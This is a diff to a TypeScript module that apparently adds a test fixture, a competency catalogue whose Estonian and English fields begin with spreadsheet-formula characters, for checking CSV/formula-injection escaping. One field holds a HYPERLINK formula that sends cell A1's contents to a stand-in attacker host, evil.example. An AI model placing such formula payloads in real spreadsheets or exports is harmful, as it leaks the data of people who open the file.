@@ -34,3 +34,19 @@ const CP1257: Record<string, number> = { õ: 0xf5, ä: 0xe4, ö: 0xf6, ü: 0xfc,
 export function windows1257(text: string): Uint8Array {
   return Uint8Array.from([...text].map((ch) => (ch.charCodeAt(0) < 128 ? ch.charCodeAt(0) : CP1257[ch] ?? Number.NaN)));
 }
+
+/** A catalogue whose texts begin the way spreadsheet formulas do. */
+export function formulaCatalogue() {
+  const c = catalogueCopy();
+  const [a, b] = c.competencies;
+  a.name.et = '=HYPERLINK("https://evil.example/?q="&A1,"Kliendikesksus")';
+  a.name.en = '+1+1';
+  a.description.et = '-2+3';
+  a.description.en = '@SUM(A1:A9)';
+  a.indicators.et[0] = '\tTab ees';
+  a.indicators.et[1] = "'apostroof ees";
+  a.indicators.en[0] = "'=juba kaitstud";
+  b.description.et = '\rCR ees';
+  b.keywords = ['=x', 'y'];
+  return c;
+}
